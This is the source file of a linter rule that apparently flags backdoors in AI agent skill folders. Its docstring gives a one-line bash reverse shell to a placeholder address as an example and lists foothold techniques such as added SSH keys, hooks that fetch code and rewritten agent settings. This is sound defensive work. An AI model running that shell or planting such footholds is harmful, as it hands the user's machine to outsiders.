"""A command lets somebody in, or stays after the task.

## What it does
Looks in runnable blocks, scripts, workflows and commands for shells for others, keys added to `authorized_keys`, rights
without a password, guards switched off, jobs, services, hooks and start files that fetch what they run or of which the
description says nothing, settings of agents that are rewritten, orders that are written where each agent reads them,
unseen or in somebody else's interest, programs that ask for passwords replaced by others that keep them, and programs
that mine coins.

Where the lines around and all else of the skill read like no attack, and no other rule on safety finds anything, this
is a note, which fails nothing unless `--fail-on note` says so.

## Why is this bad
It gives others the machine, and outlives the skill.

## Example

```sh
bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
```

## Use instead
Nothing: no task needs this. What must run regularly is set up by the user.
"""

import re
from collections.abc import Iterator

from skillkit.model.finding import Violation
from skillkit.model.folder import SkillFolder
from skillkit.patterns import Pattern
from skillkit.rules import rule
from skillkit.safety.around import told_around
from skillkit.safety.footholds import DECLARES
from skillkit.safety.footholds import FOREIGN
from skillkit.safety.footholds import KEYS
from skillkit.safety.footholds import LET_IN
from skillkit.safety.footholds import LETS_IN
from skillkit.safety.footholds import LISTENING
from skillkit.safety.footholds import LISTENS
from skillkit.safety.footholds import LOOKS_UP
from skillkit.safety.footholds import OPENED
from skillkit.safety.footholds import OPENS
from skillkit.safety.footholds import ORDERED
from skillkit.safety.footholds import ORDERLY
from skillkit.safety.footholds import ORDERS
from skillkit.safety.footholds import PROFILE
from skillkit.safety.footholds import PROFILES
from skillkit.safety.footholds import REWRITES
from skillkit.safety.footholds import REWRITTEN
from skillkit.safety.footholds import SENTENCES
from skillkit.safety.footholds import STAYED
from skillkit.safety.footholds import STAYS
from skillkit.safety.footholds import TOLD
from skillkit.safety.footholds import WRITES
from skillkit.safety.hits import Hit
from skillkit.safety.hits import hits
from skillkit.safety.hits import says_of_itself
from skillkit.safety.mentions import is_mentioned
from skillkit.safety.mentions import is_remark
from skillkit.safety.shown_before import was_shown
from skillkit.safety.standing_orders import TOLD as STANDING
from skillkit.safety.standing_orders import scripted
from skillkit.safety.standing_orders import written_out

PRINTED = Pattern(r"\s*(?:sudo\s+)?(?:echo|printf)\s")
"""A line that holds all that it writes."""


ELSEWHERE = Pattern(r"[.;,:]\s+(?:but )?(?:not|never) (?:in|into|to)\b", re.IGNORECASE)
"""It is to be written, but not there."""


NEAR = 160
"""How far before a setting the command may stand that only shows it, in characters."""


def _declared(folder: SkillFolder) -> bool:
    front, flow = folder.skill_md, folder.workflow
    said = [
        str(document.data.get("description", "")) + str(document.data.get("name", "")).replace("-", " ")
        for document in (front, flow)
        if document
    ]
    return bool(DECLARES.search(" ".join(said)))


def _line(hit: Hit) -> str:
    start = hit.text.rfind("\n", 0, hit.match.start()) + 1
    end = hit.text.find("\n", hit.match.end())
    return hit.text[
        max(start, hit.match.start() - 300) : min(end if end >= 0 else len(hit.text), hit.match.end() + 300)
    ]


def _around(hit: Hit) -> str:
    return hit.text[max(0, hit.match.start() - 300) : hit.match.end() + 700]


def _staying(folder: SkillFolder) -> Iterator[Hit]:
    """Where something is written that starts by itself or that each agent reads: unsaid, or fetched from elsewhere."""
    for hit in hits(folder, STAYED, STAYS, "run", "inline"):
        if LOOKS_UP.search(hit.text, max(0, hit.match.start() - NEAR), hit.match.start()):
            continue
        script = hit.passage.is_whole or hit.passage.path.endswith((".yaml", ".yml"))
        if WRITES.search(_around(hit) if script else _line(hit)) and (
            (script and not _declared(folder)) or (FOREIGN.search(_around(hit)) and not was_shown(hit, _around(hit)))
        ):
            yield hit
    for hit in hits(folder, PROFILES, PROFILE, "run", "inline"):
        line = _line(hit)
        written = line if PRINTED.compiled.match(line) else _around(hit)
        if WRITES.search(line) and FOREIGN.search(written):
            yield hit
    for hit in hits(folder, ORDERLY, ORDERED, "run", "inline"):
        begun = max(0, hit.match.start() - 400, hit.text.rfind("\n", 0, hit.match.start()))
        if ORDERS.search(hit.match["here"] or hit.text[begun : hit.match.start()]):
            yield hit
    for hit in hits(folder, REWRITTEN, REWRITES, "run"):
        script = hit.passage.is_whole
        if WRITES.search(_around(hit)) and (script or FOREIGN.search(_around(hit))) and not _declared(folder):
            yield hit


def _told(folder: SkillFolder) -> Iterator[Hit]:
    """Sentences that have something stay, but not those that say where it is not to be."""
    told = hits(folder, SENTENCES, TOLD, "prose", "comment")
    yield from (hit for hit in told if not ELSEWHERE.search(hit.match[0]))


def _is_asked_for(folder: SkillFolder, hit: Hit) -> bool:
    """Whether a sentence on who may log in stands in a skill that describes itself as one for that."""
    return "authorized_keys" in hit.match[0] and says_of_itself(folder, KEYS)


@rule("SK812", "backdoor", "safety", "error")
def check(folder: SkillFolder) -> Iterator[Violation]:
    """Yields each such command and sentence."""
    before = set()
    for hit in (
        *hits(folder, OPENED, OPENS, "run", "inline", "comment"),
        *hits(folder, LET_IN, LETS_IN, "run", "inline", "comment"),
        *_staying(folder),
        *_told(folder),
        *told_around(folder, STANDING),
        *written_out(folder),
    ):
        where = (hit.location.path, hit.location.start_line)
        if where not in before and not is_mentioned(hit) and not _is_asked_for(folder, hit):
            before.add(where)
            yield Violation(location=hit.location, message="this opens the machine to others, or stays after the task")
    for hit in (*hits(folder, LISTENING, LISTENS, "run", "inline"), *scripted(folder)):
        where = (hit.location.path, hit.location.start_line)
        if where not in before and not is_remark(hit):
            before.add(where)
            yield Violation(location=hit.location, message="this opens the machine to others, or stays after the task")
